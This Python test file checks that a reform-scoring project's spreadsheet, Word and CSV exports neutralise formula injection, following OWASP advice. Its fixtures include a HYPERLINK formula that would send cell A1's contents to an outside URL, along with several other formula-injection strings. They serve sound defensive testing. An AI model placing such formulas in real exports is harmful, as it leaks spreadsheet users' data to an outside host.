"""Text that looks like a formula stays text in every spreadsheet the project writes: the
officer's exports (XLSX, DOCX) and the public downloads (XLSX, CSV)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

from docx import Document
from openpyxl import load_workbook

from cchc import celltext, validation
from cchc.publish import data
from cchc.score import results as results_mod

from .conftest import export_annex

YEAR = 2025
NAME = '=HYPERLINK("https://vi.du/?"&A1,"Sở Nội vụ")'
APPROVER = "@Vũ Hồng Dũng, Giám đốc"
EXPLANATION = "-1+2 Kết quả thực hiện ở mức khá, chưa có kết quả nổi bật để đạt điểm tối đa."
BAND = "="  # every band label of the departments' framework starts with it


def _hostile(root: Path) -> None:
    """Units, dossiers and frameworks whose texts start like formulas (all valid data)."""

    def edit(rel: str, old: str, new: str) -> None:
        path = root / rel
        text = path.read_text(encoding="utf-8")
        assert old in text, (rel, old)
        path.write_text(text.replace(old, new), encoding="utf-8")

    edit("units/so.yaml", "name: Sở Nội vụ\n", "name: '" + NAME.replace("'", "''") + "'\n")
    sa = f"submissions/{YEAR}/so-noi-vu/self-assessment.yaml"
    # A control character too: invisible, and XML (so XLSX and DOCX) cannot hold it.
    edit(sa, "approved_by: Vũ Hồng Dũng, Giám đốc", 'approved_by: "@Vũ Hồng Dũng,\\x07 Giám đốc"')
    edit(sa, "explanation: " + EXPLANATION[5:], "explanation: '" + EXPLANATION + "'")
    # A group name Excel refuses as a sheet name as it is.
    edit(
        "province.yaml",
        'groups:\n  - {id: so, name: "Sở, ban, ngành"}',
        'groups:\n  - {id: so, name: "=Sở [khối I]: ban, ngành?"}',
    )
    bands = root / "criteria/sample-2025/so.yaml"
    bands.write_text(
        re.sub(r"\{label: ([^,]+), min:", r"{label: '=\1', min:", bands.read_text(encoding="utf-8")), encoding="utf-8"
    )


def _no_formula(xlsx: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", zf.read(name)), name


def _text_cells(xlsx: bytes) -> dict:
    """Every string cell's text → (data type, quote prefix), read back by openpyxl."""
    cells = {}
    for ws in load_workbook(io.BytesIO(xlsx)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cells[cell.value] = (cell.data_type, cell.quotePrefix)
    return cells


def test_texts_stay_text_in_exports_and_downloads(province, tmp_path, cchc):
    _hostile(province)
    results = results_mod.compute(validation.validate(province).repo)
    assert cchc("export", "unit", "--year", YEAR, "--unit", "so-noi-vu", "--out", tmp_path, "--root", province)[0] == 0
    assert export_annex(cchc, province, YEAR, tmp_path / "pl.xlsx", tmp_path / "pl.docx") == 0
    unit = (tmp_path / f"bang-tong-hop-{YEAR}-so-noi-vu.xlsx").read_bytes()
    annex = (tmp_path / "pl.xlsx").read_bytes()
    public = data.to_xlsx(results, YEAR)
    assert load_workbook(io.BytesIO(public)).sheetnames[0] == "=Sở -khối I-- ban, ngành-"
    classes = {r.score.classification for g in results.year(YEAR).groups for r in g.rows} - {None}
    assert {c for c in classes if c.startswith(BAND)}
    for xlsx, texts in (
        (unit, {NAME.upper(), EXPLANATION, APPROVER}),
        (annex, {NAME} | classes),
        (public, {NAME} | classes),
    ):
        _no_formula(xlsx)
        cells = _text_cells(xlsx)
        for text in texts:
            # A string cell showing exactly the text, kept text when edited (Excel's quote prefix).
            assert cells[text] == ("s", celltext.looks_like_formula(text)), text
    # Word writes text runs, never fields.
    for docx, text in ((tmp_path / f"bang-tong-hop-{YEAR}-so-noi-vu.docx", NAME.upper()), (tmp_path / "pl.docx", NAME)):
        body = zipfile.ZipFile(docx).read("word/document.xml").decode("utf-8")
        assert "fldSimple" not in body and "instrText" not in body
        assert text in [
            p.text for t in Document(str(docx)).tables for r in t.rows for c in r.cells for p in c.paragraphs
        ]

    group = next(g for g in results.year(YEAR).groups if any(r.unit.id == "so-noi-vu" for r in g.rows))
    header, rows = data.table(group)
    text = data.to_csv(results, YEAR, group.id)
    assert text.startswith(data.BOM + '"Hạng"')  # a UTF-8 BOM, then the header
    lines = list(csv.reader(io.StringIO(text.removeprefix(data.BOM))))
    assert lines[0] == header
    got = {line[1]: line for line in lines[1:]}
    assert got["so-noi-vu"][header.index("Tên đơn vị")] == "'" + NAME
    assert all(line[header.index("Xếp loại")].startswith("'" + BAND) for line in lines[1:])
    for row in rows:  # numbers, negative ones too, are written as they are
        line = got[row[1]]
        for value, field in zip(row, line, strict=True):
            if isinstance(value, int) or (isinstance(value, str) and celltext.NUMBER.fullmatch(value)):
                assert field == str(value)


def test_csv_fields_follow_owasp():
    field = celltext.csv_field
    for text in ("=1+2", "+84 912", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n@x", "\uff1d1"):
        assert field(text) == "'" + text, text
    for value in ("-3.5", "85.10", "0"):  # penalty points and indices stay numbers
        assert str(field(value)) == value and not isinstance(field(value), str)
    assert field("Sở Nội vụ") == "Sở Nội vụ" and field(None) == "" and field(-2) == -2
    out = io.StringIO()
    csv.writer(out, quoting=celltext.CSV_QUOTING, lineterminator="\n").writerow(
        celltext.csv_row(["a;=1+2", "-3.5", None, 7])
    )
    # Quoted, so Excel splitting on ';' (Vietnamese list separator) keeps one cell.
    assert out.getvalue() == '"a;=1+2",-3.5,"",7\n'
